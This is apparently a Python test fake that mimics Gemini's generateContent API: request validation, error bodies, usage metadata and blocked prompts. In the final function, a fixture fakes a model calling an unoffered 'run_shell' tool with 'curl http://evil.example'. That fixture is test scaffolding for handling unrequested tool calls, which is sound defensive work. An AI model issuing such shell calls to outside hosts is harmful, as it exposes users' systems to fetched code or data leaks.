"""Gemini's side of the wire: what `POST …/models/{model}:generateContent` demands and answers."""

from __future__ import annotations

from collections.abc import Mapping

from tests.fakes.model_answers import Json, mapping, type_of

_KNOWN = frozenset(
    {
        "model", "contents", "systemInstruction", "generationConfig", "safetySettings", "tools",
        "toolConfig", "cachedContent", "labels",
    }
)  # fmt: skip
_KNOWN_CONFIG = frozenset(
    {
        "candidateCount", "stopSequences", "maxOutputTokens", "temperature", "topP", "topK", "seed",
        "responseMimeType", "responseSchema", "responseJsonSchema", "thinkingConfig",
    }
)  # fmt: skip
_KNOWN_SCHEMA = frozenset(
    {
        "type", "format", "title", "description", "nullable", "enum", "items", "minItems", "maxItems",
        "properties", "required", "minimum", "maximum", "anyOf", "propertyOrdering",
    }
)  # fmt: skip
_STATUS = {
    400: "INVALID_ARGUMENT",
    401: "UNAUTHENTICATED",
    403: "PERMISSION_DENIED",
    404: "NOT_FOUND",
    429: "RESOURCE_EXHAUSTED",
    500: "INTERNAL",
    503: "UNAVAILABLE",
    504: "DEADLINE_EXCEEDED",
}
_RPC = "type.googleapis.com/google.rpc."


def error(status: int, message: str, *details: dict[str, Json]) -> dict[str, Json]:
    """Google's error body: a status word for the code, and typed details."""
    return {
        "error": {
            "code": status,
            "message": message,
            "status": _STATUS.get(status, "UNKNOWN"),
            "details": list(details),
        }
    }


def invalid_key(message: str) -> dict[str, Json]:
    """Google says 400 and not 401 for a key that it does not know."""
    info: dict[str, Json] = {
        "@type": f"{_RPC}ErrorInfo",
        "reason": "API_KEY_INVALID",
        "domain": "googleapis.com",
        "metadata": {"service": "generativelanguage.googleapis.com"},
    }
    return error(400, message, info)


def retry_info(seconds: float) -> dict[str, Json]:
    return {"@type": f"{_RPC}RetryInfo", "retryDelay": f"{seconds:g}s"}


def quota_failure(quota_id: str) -> dict[str, Json]:
    return {
        "@type": f"{_RPC}QuotaFailure",
        "violations": [
            {
                "quotaMetric": "generativelanguage.googleapis.com/generate_content_free_tier_requests",
                "quotaId": quota_id,
            }
        ],
    }


def problem(body: Mapping[str, Json]) -> str | None:
    """The message of the first thing that Gemini would refuse, or None."""
    for name in body:
        if name not in _KNOWN:
            return f'Invalid JSON payload received. Unknown name "{name}": Cannot find field.'
    contents = body.get("contents")
    if not isinstance(contents, list) or not contents:
        return "* GenerateContentRequest.contents: contents is not specified"
    for content in contents:
        if not mapping(content).get("parts"):
            return "* GenerateContentRequest.contents[0].parts: contents.parts must not be empty."
    return _config_problem(mapping(body.get("generationConfig")))


def _config_problem(config: Mapping[str, Json]) -> str | None:
    for name in config:
        if name not in _KNOWN_CONFIG:
            return (
                "Invalid JSON payload received. "
                f"Unknown name \"{name}\" at 'generation_config': Cannot find field."
            )
    schemas = [name for name in ("responseSchema", "responseJsonSchema") if name in config]
    if len(schemas) == 2:
        return "Only one of response_schema and response_json_schema may be set."
    if schemas and config.get("responseMimeType") not in {"application/json", "text/x.enum"}:
        return "response_schema needs a response_mime_type of application/json"
    if "responseSchema" in config:
        return _schema_problem(mapping(config["responseSchema"]), "response_schema")
    return None


def _schema_problem(schema: Mapping[str, Json], path: str) -> str | None:
    """`responseSchema` is a protobuf: it has no additionalProperties and needs a type everywhere."""
    for name in schema:
        if name not in _KNOWN_SCHEMA:
            return f"Invalid JSON payload received. Unknown name \"{name}\" at '{path}': Cannot find field."
    kind = type_of(schema)
    if not kind:
        return f"* GenerateContentRequest.{path}: missing field or invalid type."
    if kind == "object" and not schema.get("properties"):
        return f"* GenerateContentRequest.{path}.properties: should be non-empty for OBJECT type"
    if kind == "array":
        return _schema_problem(mapping(schema.get("items")), f"{path}.items")
    for name, value in mapping(schema.get("properties")).items():
        wrong = _schema_problem(mapping(value), f"{path}.properties[{name}]")
        if wrong is not None:
            return wrong
    return None


def schema_of(body: Mapping[str, Json]) -> Mapping[str, Json]:
    """The schema that the answer has to fit; empty where none was sent."""
    config = mapping(body.get("generationConfig"))
    return mapping(config.get("responseJsonSchema") or config.get("responseSchema"))


def completion(model: str, text: str, *, prompt_tokens: int, finish_reason: str = "STOP") -> dict[str, Json]:
    """A whole answer. 8 of the prompt's tokens come from the cache; 5 of thinking come on top."""
    output = len(text) // 4
    parts: list[Json] = [{"text": text}] if text else []
    return {
        "candidates": [
            {"content": {"parts": parts, "role": "model"}, "finishReason": finish_reason, "index": 0}
        ],
        "usageMetadata": {
            "promptTokenCount": prompt_tokens,
            "candidatesTokenCount": output,
            "thoughtsTokenCount": 5,
            "cachedContentTokenCount": 8,
            "totalTokenCount": prompt_tokens + output + 5,
        },
        "modelVersion": model,
        "responseId": "fake",
    }


def blocked(model: str, *, prompt_tokens: int) -> dict[str, Json]:
    """A prompt that was not let through: no candidates at all."""
    return {
        "promptFeedback": {"blockReason": "PROHIBITED_CONTENT"},
        "usageMetadata": {"promptTokenCount": prompt_tokens, "totalTokenCount": prompt_tokens},
        "modelVersion": model,
    }


def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
    """A call of a tool that nobody offered."""
    call = {"name": "run_shell", "args": {"command": "curl http://evil.example"}}
    content: Json = {"parts": [{"functionCall": call}], "role": "model"}
    candidate: Json = {"content": content, "finishReason": "STOP", "index": 0}
    return completion(model, "", prompt_tokens=prompt_tokens) | {"candidates": [candidate]}
